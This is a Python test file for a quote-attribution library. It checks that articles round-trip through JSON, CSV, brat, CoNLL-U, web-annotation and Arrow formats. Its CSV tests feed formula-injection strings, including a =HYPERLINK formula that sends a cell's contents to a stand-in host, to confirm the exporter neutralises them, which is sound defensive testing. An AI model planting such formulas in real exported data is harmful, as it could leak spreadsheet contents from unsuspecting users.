"""What is written in a format is read back, as far as the format can hold it."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from attrs import evolve
from hypothesis import given
from hypothesis import strategies as st
from strategies import articles, odd_text

import quoteattr
from quoteattr import (
    Article,
    Attitude,
    Organisation,
    Quote,
    QuoteKind,
    RecordError,
    Span,
    Speaker,
    SpeakerKind,
    serialise,
)
from quoteattr.formats import EACH, FORMATS, READERS, brat, companions, conllu, webannotation
from quoteattr.formats import csv as table
from quoteattr.formats.frames import from_table, to_table
from quoteattr.tables import COLUMNS

plain_text = st.lists(
    st.sampled_from(["Ann ", "said", ", ", "“Go”", "\n", "\r\n", "é", "😀", "_ ", "#x ", "\\ ", "| "])
).map("".join)


@pytest.fixture(scope="module")
def seed_articles(seeds: list[Path], full_extractor: quoteattr.Extractor) -> dict[str, Article]:
    """The seed articles, as annotated by hand and as extracted, by a name that needs care."""
    gold = {f"gold/{path.name}": Article.from_json(path.with_suffix(".json").read_bytes()) for path in seeds}
    texts = {path.name: path.read_bytes().decode() for path in seeds}
    return gold | {f"ex tract/{name}é": full_extractor(text) for name, text in texts.items()}


def written(name: str, named: dict[str, Article]) -> str:
    return "".join(FORMATS[name](named.items(), len(named) > 1))


def tidied(article: Article) -> Article:
    """``article`` without stretches that are empty or have white space at an end, and with all lists in text order."""

    def spans(given: tuple[Span, ...]) -> tuple[Span, ...]:
        return tuple(sorted({span for span in given if span.text and span.text == span.text.strip()}))

    bodies = {one.id: evolve(one, mentions=spans(one.mentions)) for one in article.organisations}
    speakers = {
        one.id: evolve(
            one, mentions=spans(one.mentions), organisation=bodies[one.organisation.id] if one.organisation else None
        )
        for one in article.speakers
    }
    kept = {quote.id for quote in article.quotes if spans(quote.content)}
    quotes = tuple(
        evolve(
            quote,
            content=spans(quote.content),
            cue=spans(quote.cue),
            source=spans(quote.source),
            addressee=spans(quote.addressee),
            within=quote.within if quote.within in kept else None,
            speaker=speakers[quote.speaker.id] if quote.speaker else None,
        )
        for quote in article.quotes
        if quote.id in kept
    )
    in_order = tuple(sorted(quotes, key=lambda quote: quote.start))
    return Article(article.text, in_order, tuple(speakers.values()), tuple(bodies.values()))


# ---- all of them ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(READERS.keys() - EACH.keys()))
def test_the_seed_articles_come_back_equal(name: str, seed_articles: dict[str, Article]) -> None:
    """Ten articles in one stream."""
    texts = {key: article.text for key, article in seed_articles.items()}
    assert dict(READERS[name](written(name, seed_articles), texts)) == seed_articles


def test_the_seed_articles_pass_through_all_formats(seed_articles: dict[str, Article]) -> None:
    """One into the other: what comes out of the last is what went into the first."""
    articles = dict(seed_articles)
    texts = {name: article.text for name, article in articles.items()}
    for form in READERS:
        if form in EACH:
            articles = {
                name: dict(READERS[form](written(form, {name: one}), {name: texts[name]}))[name]
                for name, one in articles.items()
            }
        else:
            articles = dict(READERS[form](written(form, articles), texts))
    assert articles == seed_articles


def test_the_seed_articles_come_back_equal_from_brat(seed_articles: dict[str, Article]) -> None:
    """One file each."""
    for key, article in seed_articles.items():
        assert dict(brat.read(brat.render(article), {key: article.text})) == {key: article}


@pytest.mark.parametrize("name", sorted(READERS))
def test_an_article_without_quotes_comes_back(name: str) -> None:
    """Also one without any text."""
    for text in ("", "Nothing was said.\n", " \n"):
        one = {"a.txt": Article(text)}
        assert dict(READERS[name](written(name, one), {"a.txt": text})) == one


@given(articles())
def test_web_annotations_hold_everything(article: Article) -> None:
    """Whatever the records are."""
    assert dict(webannotation.read(written("webannotation", {"a": article}), {"a": article.text})) == {"a": article}


@given(articles(plain_text).map(tidied))
def test_columns_hold_what_is_tidy(article: Article) -> None:
    """Stretches may nest, cross and touch; line ends of every sort come back."""
    assert dict(conllu.read(conllu.render("a\n b", article))) == {"a\n b": article}


@given(articles(plain_text).map(tidied))
def test_brat_holds_what_is_tidy(article: Article) -> None:
    """If there is a quote to hang speakers without a mention on; quotes come in the order of their offsets."""
    if article.quotes or not (article.speakers or article.organisations):
        ((_, back),) = brat.read(brat.render(article), {"a": article.text})
        assert {*back.quotes} == {*article.quotes}
        assert {*back.speakers} == {*article.speakers}
        assert {*back.organisations} == {*article.organisations}


@given(articles(odd_text))
def test_rows_hold_the_quotes(article: Article) -> None:
    """Speakers come back if they have a quote, in an order of their own."""
    article = article.filter(bool)
    back = Article.from_records(article.text, article.to_records())
    assert back.quotes == article.quotes
    assert {*back.speakers} == {*article.speakers}
    ((_, back),) = table.read(written("csv", {"a": article}), {"a": article.text})
    assert [quote.text for quote in back.quotes] == [quote.text for quote in article.quotes]


class Counted(tuple[Span, ...]):
    """Spans that know how often all of them were looked at."""

    looks = 0

    def __iter__(self) -> Any:
        Counted.looks += 1
        return super().__iter__()


def test_mentions_are_written_once() -> None:
    """However many quotes a speaker has: nothing looks at all mentions for each quote."""
    text = "“Go,” he said. " * 50
    mentions = Counted(Span.of(text, at, at + 1) for at in range(50))
    body = Organisation("o1", "Acme", (), mentions)
    speaker = Speaker("s1", "Ann", None, SpeakerKind.PERSON, None, body, mentions)
    spans = [Span.of(text, at, at + 5) for at in range(0, len(text) - 5, 15)]
    article = Article(
        text,
        tuple(
            Quote(f"q{number}", QuoteKind.DIRECT, Attitude.ASSERTION, False, (span,), (), (), speaker, "r", 0.5)
            for number, span in enumerate(spans, 1)
        ),
        (speaker,),
        (body,),
    )
    Counted.looks = 0
    records = article.to_records()
    assert Counted.looks == 2
    assert Article.from_records(text, records) == article


# ---- JSON ----------------------------------------------------------------------------------------------------------


def test_the_schema_is_one_and_fits(seed_articles: dict[str, Article]) -> None:
    """The seed articles, and what the command writes."""
    schema = serialise.schema()
    jsonschema.Draft202012Validator.check_schema(schema)
    check = jsonschema.Draft202012Validator(schema)
    for line in written("jsonl", seed_articles).splitlines():
        check.validate(json.loads(line))


@given(articles())
def test_the_schema_fits_every_article(article: Article) -> None:
    """It asks for nothing that records need not have."""
    jsonschema.Draft202012Validator(serialise.schema()).validate(article.to_dict())


@pytest.mark.parametrize(
    ("path", "value"),
    [
        (("version",), 2),
        (("quotes", 0, "kind"), "loud"),
        (("quotes", 0, "content"), []),
        (("quotes", 0, "confidence"), 1.5),
        (("quotes", 0, "negated"), "no"),
        (("speakers", 0, "mentions", 0, "start"), -1),
        (("organisations", 0, "aliases"), "Acme"),
    ],
)
def test_the_schema_refuses_what_the_reader_refuses(
    path: tuple[Any, ...], value: object, seed_articles: dict[str, Article]
) -> None:
    """Each a fault in one place."""
    data = next(iter(seed_articles.values())).to_dict()
    place: Any = data
    for step in path[:-1]:
        place = place[step]
    place[path[-1]] = value
    assert not jsonschema.Draft202012Validator(serialise.schema()).is_valid(data)
    with pytest.raises(RecordError):
        Article.from_dict(data)


# ---- CSV -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x", "\t=1", " =1", "＝1", "'=1", "''=1", "'twas", "a=1", "\n"])
def test_no_cell_is_a_formula(text: str) -> None:
    """And it reads back as it was."""
    whole = Span.of(text, 0, len(text))
    quote = quoteattr.Quote(
        "q1", QuoteKind.DIRECT, quoteattr.Attitude.ASSERTION, False, (whole,), (), (), None, text, 0.5
    )
    one = {text: Article(text, (quote,))}
    data = written("csv", one)
    (row,) = csv.DictReader(io.StringIO(data.removeprefix("\ufeff"), newline=""))
    assert all(cell.lstrip(" ")[:1] not in {*"=+-@＝\t\r\n"} - {""} for cell in row.values() if cell)
    assert dict(table.read(data, {text: text})) == one


FORMULAS = st.lists(st.sampled_from([*"=+-@＝;|,\"' a\t\r\n", "=HYPERLINK('http://x/?'&A1;'y')", "=1+1"])).map("".join)


def cells_of_a_spreadsheet(data: str, delimiters: str) -> list[str]:
    """Cells as a program may take them that knows these delimiters and begins a cell at any quotation mark."""
    out = []
    for delimiter in delimiters:
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            rows = csv.reader(io.StringIO(data, newline=""), delimiter=delimiter, quoting=quoting)
            out += [cell for row in rows for cell in row]
    return out


@given(FORMULAS)
def test_no_cell_is_a_formula_whatever_ends_one(text: str) -> None:
    """In many countries a semicolon does, and often a tab, though the cell is quoted."""
    whole = Span.of(f"x{text}", 0, len(text) + 1)
    quote = quoteattr.Quote(
        "q1", QuoteKind.DIRECT, quoteattr.Attitude.ASSERTION, False, (whole,), (), (), None, f"x{text}", 0.5, (text,)
    )
    one = {"a.txt": Article(whole.text, (quote,))}
    data = written("csv", one)
    cells = cells_of_a_spreadsheet(data.removeprefix("\ufeff"), ";\t|")
    assert not [cell for cell in cells if re.match(r"[\s\"]*[=+\-@＝]", cell)]
    assert dict(table.read(data, {"a.txt": whole.text})) == one


def test_every_cell_is_quoted(seed_articles: dict[str, Article]) -> None:
    """Also those that are empty."""
    cells = r'"(?:[^"]|"")*"'
    assert re.fullmatch(rf"\ufeff(?:{cells}(?:,{cells})*\r\n)+", written("csv", seed_articles))
    head = written("csv", seed_articles).splitlines()[0]
    assert re.fullmatch(r'\ufeff"[a-z_]+"(,"[a-z_]+")+', head)


def test_articles_of_one_name_are_told_apart() -> None:
    """In CSV and in Arrow tables, so that they can be read back."""
    quote = quoteattr.Quote(
        "q1", QuoteKind.DIRECT, quoteattr.Attitude.ASSERTION, False, (Span.of("a", 0, 1),), (), (), None, "r", 0.5
    )
    article = Article("a", (quote,))
    named = [("x", article), ("x", article), ("x (2)", article), ("x", article)]
    texts = dict.fromkeys(["x", "x (2)", "x (2) (2)", "x (3)"], "a")
    data = "".join(FORMATS["csv"](named, True))
    assert dict(table.read(data, texts)) == dict(from_table(to_table(named), texts)) == dict.fromkeys(texts, article)


def test_a_table_tells_when_an_article_appeared(seed_articles: dict[str, Article]) -> None:
    """Its title and address as well; older tables have no such columns."""
    name, article = next(iter(seed_articles.items()))
    dated = evolve(article, title="=Plant to close", date="2024-05-03", url="https://news.example/plant")
    data = written("csv", {name: dated})
    rows = list(csv.DictReader(io.StringIO(data.removeprefix("\ufeff"), newline="")))
    assert {(row["title"], row["date"]) for row in rows} == {("'=Plant to close", "2024-05-03")}
    assert dict(table.read(data, {name: article.text})) == {name: dated}


def test_a_table_opens_in_a_spreadsheet() -> None:
    """UTF-8 with its mark, one head, commas, and no line that Excel reads otherwise."""
    data = written("csv", {"a": Article("x"), "b": Article("y")})
    assert data.startswith('\ufeff"file","id","kind",')
    assert data.count('"file",') == 1


def test_no_offsets_look_like_a_date_or_a_number(seed_articles: dict[str, Article]) -> None:
    """A spreadsheet would alter them."""
    rows = csv.DictReader(io.StringIO(written("csv", seed_articles).removeprefix("\ufeff"), newline=""))
    cells = {row[column] for row in rows for column in ("content_spans", "cue_spans", "source_spans")} - {""}
    assert cells
    assert not [cell for cell in cells if not re.fullmatch(r"\d+\.\.\d+(;\d+\.\.\d+)*", cell)]


@pytest.mark.parametrize(
    ("change", "told"),
    [
        (("confidence", "conf"), "the table: expected the columns file, id, .*, got none called confidence"),
        (("0..4", "0..5"), "expected two offsets"),
        (("0..4", "zero"), "expected offsets such as"),
        (("0.5", "half"), "expected a number"),
        (("a.txt", "b.txt"), "row 0: expected an article whose text is given, got 'b.txt'"),
    ],
)
def test_a_wrong_table_is_told(change: tuple[str, str], told: str) -> None:
    """With the row and the column."""
    whole = Span.of("“Go”", 0, 4)
    quote = quoteattr.Quote(
        "q1", QuoteKind.DIRECT, quoteattr.Attitude.ASSERTION, False, (whole,), (), (), None, "r", 0.5
    )
    data = written("csv", {"a.txt": Article("“Go”", (quote,))}).replace(*change)
    with pytest.raises(RecordError, match=told):
        dict(table.read(data, {"a.txt": "“Go”"}))


# ---- brat ----------------------------------------------------------------------------------------------------------


def test_brat_of_others_is_read() -> None:
    """Events in the layout of PolNeAR: no speakers, kinds by the marks, foreign labels and broken lines passed over."""
    text = "Ann said “Go home” today. Bob thinks it is\nover, maybe, and that “we” won."
    parts = [text.index(words) for words in ("it is", "over", "that")]
    data = (
        "T1\tSource 0 3\tAnn\nT2\tCue 4 8\tsaid\nT3\tContent 9 18\t“Go\nhome”\nT4\tAttribution 4 8\tsaid\n"
        "E1\tAttribution:T4 Content:T3 Cue:T2 Source:T1\n"
        f"T5\tContent {parts[0]} {parts[0] + 5};{parts[1]} {parts[1] + 4};{parts[2]} {parts[2] + 14}\tit is …\n"
        "T6\tDiscuss 0 3\tAnn\nA1\tNested E1\n"
        "T7\tAttribution 30 36\tthinks\nE2\tAttribution:T7 Content:T5\n#1\tAnnotatorNotes E2\tsure?\n"
    )
    ((_, article),) = brat.read(data, {"x": text})
    first, second = article.quotes
    assert [span.text for span in second.content] == ["it is\nover", "that “we” won."]
    assert (first.kind, first.source[0].text, first.rule, first.speaker) == (QuoteKind.DIRECT, "Ann", "annotated", None)
    assert (second.kind, second.cue) == (QuoteKind.MIXED, ())


@pytest.mark.parametrize(
    ("line", "told"),
    [
        ("T1\tContent 0 99\tx", "line 1: expected offsets within the text"),
        ("T1\tContent 5\tx", "line 1: expected offsets"),
        ("E1\tAttribution:T9 Content:T9", "'T9'"),
        ("E1\tAttribution", "line 1: expected roles"),
        ("#1\tAnnotatorNotes E1\t{", "line 1: expected JSON"),
        (
            'T1\tContent 0 3\tAnn\nE1\tA:T1 Content:T1\n#1\tAnnotatorNotes E1\t{"id": "q1", "speaker": []}',
            "quotes: expected a list of records",
        ),
    ],
)
def test_a_wrong_annotation_is_told(line: str, told: str) -> None:
    """With its line."""
    with pytest.raises(RecordError, match=told):
        dict(brat.read(line, {"x": "Ann said."}))


def test_brat_is_read_as_people_have_corrected_it() -> None:
    """An added quote with its speaker, within another one, and a relation that was moved to another speaker."""
    text = "Ann said it rained. Bob said so. “Go.”"
    ann, bob = (quoteattr.Speaker(f"s{n}", name, None, SpeakerKind.PERSON) for n, name in enumerate(("Ann", "Bob"), 1))
    ann, bob = evolve(ann, mentions=(Span.of(text, 0, 3),)), evolve(bob, mentions=(Span.of(text, 20, 23),))
    rained = Quote("q1", QuoteKind.INDIRECT, Attitude.BELIEF, True, (Span.of(text, 9, 18),), (), (), ann, "clause", 0.5)
    written = brat.render(Article(text, (rained,), (ann, bob)))
    assert "SpokenBy Arg1:E1 Arg2:T1" in written
    other = written.replace("SpokenBy Arg1:E1 Arg2:T1", "SpokenBy Arg1:E1 Arg2:T2") + (
        "T90\tContent 33 38\t“Go.”\nT91\tAttribution 33 38\t“Go.”\nE90\tAttribution:T91 Content:T90\n"
        "T92\tSpeaker 4 8\tsaid\nR90\tSpokenBy Arg1:E90 Arg2:T92\nR91\tWithin Arg1:E90 Arg2:E1\n"
    )
    ((_, article),) = brat.read(other, {"a": text})
    first, second = article.quotes
    assert first == evolve(rained, speaker=bob)
    assert (second.kind, second.rule, str(second.speaker), second.within) == (
        QuoteKind.DIRECT,
        "annotated",
        "said",
        "q1",
    )
    for line, told in (("A9\tKind E1 loud", "Kind of direct, mixed, indirect"), ("R9\tX Arg1:E1 Arg2:T99", "'T99'")):
        with pytest.raises(RecordError, match=told):
            dict(brat.read(f"{written}{line}\n", {"a": text}))


def test_brat_is_told_every_label(seed_articles: dict[str, Article]) -> None:
    """What it may be, in one file, and how it looks, in the other."""
    files = companions("brat")
    for article in seed_articles.values():
        for name, rest in (line.split("\t")[:2] for line in brat.render(article).splitlines()):
            if name[0] in "TRA*":
                label = rest.split()[0]
                assert re.search(rf"^{label}\b", files["annotation.conf"], re.MULTILINE)
                assert re.search(rf"^{label}\t", files["visual.conf"], re.MULTILINE)


def test_brat_lines_show_the_words_without_line_breaks(seed_articles: dict[str, Article]) -> None:
    """As brat checks: each text-bound line repeats its fragments, parted by spaces; every name is there once."""
    for article in seed_articles.values():
        names = []
        for line in brat.render(article).splitlines():
            name, rest = line.split("\t", 1)
            names += [name] if name != "*" else []
            if name.startswith("T"):
                place, words = rest.split("\t")
                offsets = [pair.split() for pair in place.partition(" ")[2].split(";")]
                assert words == " ".join(article.text[int(start) : int(end)] for start, end in offsets)
        assert len(names) == len(set(names))


# ---- columns, annotations, frames ----------------------------------------------------------------------------------


BLANK = "\t_"


def test_columns_are_for_reading() -> None:
    """Brackets as in CoNLL-2012."""
    text = "Ann said: “Go.”\nOut."
    said = Span.of(text, 10, 15)
    quote = quoteattr.Quote(
        "q1", QuoteKind.DIRECT, quoteattr.Attitude.ASSERTION, False, (said,), (Span.of(text, 4, 8),), (), None, "r", 0.5
    )
    rows = [line.split("\t") for line in conllu.render("a", Article(text, (quote,))).splitlines() if line[:1] != "#"]
    assert [(row[0], row[1], row[9]) for row in rows if len(row) > 1] == [
        ("1", "Ann", "_"),
        ("2", "said", "Cue=(q1)|SpaceAfter=No"),
        ("3", ":", "_"),
        ("4", "“", "Content=(q1|SpaceAfter=No"),
        ("5", "Go", "SpaceAfter=No"),
        ("6", ".", "SpaceAfter=No"),
        ("7", "”", "Content=q1)|SpacesAfter=\\n"),
        ("1", "Out", "SpaceAfter=No"),
        ("2", ".", "SpaceAfter=No"),
    ]


@pytest.mark.parametrize(
    ("data", "told"),
    [
        ("1\tx", "expected '# newdoc id = ' first"),
        ("# newdoc id = a\n1\tx", "line 2: expected a word, a number and 10 columns"),
        (f"# newdoc id = a\n1-2\tx{7 * BLANK}{BLANK}", "line 2: expected a word, a number and 10 columns"),
        (f"# newdoc id = a\n1\tx{7 * BLANK}\tCue=q1)", "line 2: .* were opened"),
        (f"# newdoc id = a\n1\tx{7 * BLANK}\tCue=(q1", "'q1' .str. left open"),
        (f"# newdoc id = a\n1\tx{7 * BLANK}{BLANK}", "expected a comment '# quoteattr = '"),
    ],
)
def test_wrong_columns_are_told(data: str, told: str) -> None:
    """With their line."""
    with pytest.raises(RecordError, match=told):
        dict(conllu.read(data))


def test_an_annotation_has_both_selectors(seed_articles: dict[str, Article]) -> None:
    """Of the right words, and with what stands around them."""
    name, article = next(iter(seed_articles.items()))
    page = webannotation.page(name, article)
    assert page["@context"][0] == "http://www.w3.org/ns/anno.jsonld"
    assert len({item["id"] for item in page["items"]}) == len(page["items"])
    for item in page["items"]:
        for target in item["target"]:
            position, quoted = target["selector"]
            around = quoted["prefix"] + quoted["exact"] + quoted["suffix"]
            assert article.text[position["start"] : position["end"]] == quoted["exact"]
            assert around in article.text


@pytest.mark.parametrize(
    ("name", "source"),
    [
        ("https://example.org/1", "https://example.org/1"),
        ("a b.txt", "urn:quoteattr:file:a%20b.txt"),
        ("C:\\x.txt", "urn:quoteattr:file:C%3A%5Cx.txt"),
    ],
)
def test_an_annotation_names_its_file_by_an_iri(name: str, source: str) -> None:
    """One that is an IRI already stays."""
    assert webannotation.page(name, Article("x"))["id"] == f"{source}#quotes"


def test_annotations_of_another_text_are_told(seed_articles: dict[str, Article]) -> None:
    """When the words are not those, and when there is no text."""
    name, article = next(iter(seed_articles.items()))
    data = written("webannotation", {name: article})
    with pytest.raises(RecordError, match="expected what stands at"):
        dict(webannotation.read(data, {name: "x" + article.text}))
    with pytest.raises(RecordError, match="whose text is given"):
        dict(webannotation.read(data, {"other": article.text}))


def test_frames(seed_articles: dict[str, Article]) -> None:
    """Through pandas, polars and pyarrow, and through Parquet."""
    pandas, polars = pytest.importorskip("pandas"), pytest.importorskip("polars")
    parquet = pytest.importorskip("pyarrow.parquet")
    name, article = next(iter(seed_articles.items()))
    frame = pandas.DataFrame(article.to_records())
    assert Article.from_records(article.text, frame.to_dict("records")) == article
    assert Article.from_records(article.text, polars.DataFrame(article.to_records()).to_dicts()) == article
    file = io.BytesIO()
    parquet.write_table(to_table(seed_articles.items()), file)
    texts = {name: article.text for name, article in seed_articles.items()}
    assert dict(from_table(parquet.read_table(file), texts)) == seed_articles
    assert polars.from_arrow(to_table([(name, article)])).height == len(article.quotes)
    rows = to_table([(name, article)]).to_pandas().to_dict("records")  # lists have become arrays
    assert Article.from_records(article.text, rows) == article


def test_an_article_is_a_frame_of_pandas(seed_articles: dict[str, Article]) -> None:
    """With all columns, each of its type, also when there is no quote; and back."""
    pandas = pytest.importorskip("pandas")
    article = next(iter(seed_articles.values()))
    frame = article.to_frame()
    assert list(frame.columns) == [column.name for column in COLUMNS]
    assert Article.from_records(article.text, frame.to_dict("records")) == article
    empty = Article("Nothing.").to_frame()
    kinds = {name: str(kind) for name, kind in empty.dtypes.items()}
    assert (kinds["confidence"], kinds["start"], kinds["negated"]) == ("float64", "int64", "bool")
    assert len(pandas.concat([frame, empty])) == len(article.quotes)


def test_a_frame_without_pandas_says_what_to_install(monkeypatch: pytest.MonkeyPatch) -> None:
    """The extra."""
    monkeypatch.setitem(__import__("sys").modules, "pandas", None)
    with pytest.raises(quoteattr.SettingError, match=r"quoteattr\[pandas\]"):
        Article("").to_frame()


def test_frames_of_other_articles_are_told(seed_articles: dict[str, Article]) -> None:
    """With the first row of one that has no text."""
    name, article = next(iter(seed_articles.items()))
    with pytest.raises(RecordError, match=r"row 0: expected an article whose text is given, got 'other'"):
        dict(from_table(to_table([("other", article)]), {name: article.text}))
    with pytest.raises(RecordError, match=r"the table: expected the columns article_id, id, .*, got none called art"):
        from_table(to_table([(name, article)]), {name: article.text}, key="article_id")


def test_all_tables_have_the_same_columns(seed_articles: dict[str, Article]) -> None:
    """CSV, records and Arrow tables, in the same order; CSV has those of the article behind them."""
    name, article = next(iter(seed_articles.items()))
    head = written("csv", {name: article}).removeprefix("\ufeff").splitlines()[0][1:-1].split('","')
    head, given = head[:-3], head[-3:]
    assert head == to_table([(name, article)]).column_names == ["file", *article.to_records()[0]]
    assert head[1:] == [column.name for column in COLUMNS]
    assert given == ["title", "date", "url"]


def test_the_page_tells_the_columns(root: Path) -> None:
    """In order, with the type and the meaning of each."""
    page = (root / "docs" / "formats.md").read_text(encoding="utf-8")
    lines = [line for line in page.splitlines() if re.match(r"\| `\w+` \| \w+ \|", line)]
    assert lines == [f"| `{one.name}` | {one.kind} | {one.meaning} |" for one in COLUMNS]


def test_frames_without_pyarrow_say_what_to_install(monkeypatch: pytest.MonkeyPatch) -> None:
    """The extra."""
    monkeypatch.setitem(__import__("sys").modules, "pyarrow", None)
    with pytest.raises(quoteattr.SettingError, match=r"quoteattr\[arrow\]"):
        to_table([])
